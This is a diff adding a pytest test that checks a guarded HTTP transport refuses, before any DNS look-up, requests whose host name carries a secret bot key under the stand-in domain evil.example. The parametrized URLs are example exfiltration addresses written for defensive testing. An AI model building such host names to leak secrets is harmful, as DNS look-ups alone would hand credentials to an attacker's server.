@@ -104,3 +104,45 @@ def test_built_in_suites_and_the_project_s_own_stay_available(tmp_path: Path) ->
         assert [s.suite for s, _ in resolve_suites([name])] == [name]
         assert [s.suite for s, _ in resolve_suites([str(own)])] == ["mine"]
         assert [s.suite for s, _ in resolve_suites([str(tmp_path)])] == ["mine"]
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://x.{key}.evil.example/v3/detectIntent",  # a host built from a parameter
+        "https://{key}.evil.example/",
+        "https://bot.example.{key}.evil.example/",
+    ],
+)
+def test_a_secret_inside_a_host_name_is_never_looked_up(url: str) -> None:
+    """A secret written into a host name through a parameter that is not a URL (as
+    Dialogflow's ``location`` or Lex's ``region`` build their host): the name reaches
+    the request lower-cased, and its DNS look-up alone would carry the secret to the
+    name's server. Refused before any look-up."""
+    from sparring._policy import install_policy
+
+    key = "AbCdEf0123456789XyZ"
+    asked: list[str] = []
+
+    async def resolver(host: str, port: int) -> list[ipaddress.IPv4Address | ipaddress.IPv6Address]:
+        asked.append(host)
+        return [ipaddress.ip_address("93.184.216.34")]
+
+    async def go() -> None:
+        inner = httpx.MockTransport(lambda request: httpx.Response(200))
+        transport = GuardedTransport(NetworkPolicy(), inner=inner, resolver=resolver)
+        async with httpx.AsyncClient(transport=transport) as client:
+            await client.get(url.format(key=key))
+
+    policy = ExecutionPolicy(
+        run_code=False,
+        secrets={"BOT_KEY": key},
+        secret_hosts={"BOT_KEY": frozenset({"bot.example"})},
+    )
+    install_policy(policy)
+    try:
+        with pytest.raises(AddressRefused, match="BOT_KEY"):
+            asyncio.run(go())
+    finally:
+        install_policy(None)
+    assert asked == []
